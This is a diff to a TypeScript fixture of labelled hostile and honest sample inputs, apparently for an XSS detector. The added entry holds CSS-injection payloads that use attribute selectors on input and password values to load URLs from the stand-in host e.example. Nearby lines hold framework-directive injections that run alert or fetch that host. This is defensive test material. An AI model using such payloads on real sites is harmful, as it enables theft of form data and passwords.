@@ -99,6 +99,17 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       '{{ rest $url | join "/" }} and {{ .a | sha256sum | trunc 8 }}',
     ],
   },
+  'a sheet’s value that goes on with a rule, and asks a stranger by what a field holds (CWE-79)': {
+    hostile: [
+      'red;}input[value^="a"]{background:url(//e.example/a)}',
+      "x}[type=password][value$='z']{list-style:url(https://e.example/?z)}",
+    ],
+    honest: [
+      'a[href^="http"]{background:url(https://cdn.example/i.svg)}',
+      'input[value="a"]{background:url(/i.svg)}',
+      'red;} p{color:rgb(1,2,3)}',
+    ],
+  },
   'a framework’s directive behind a quote (CWE-79)': {
     hostile: ['x" x-data x-init="alert(1)', "a' @click='fetch(`//e.example`)", 'x" ng-click="$eval(x)'],
     honest: [
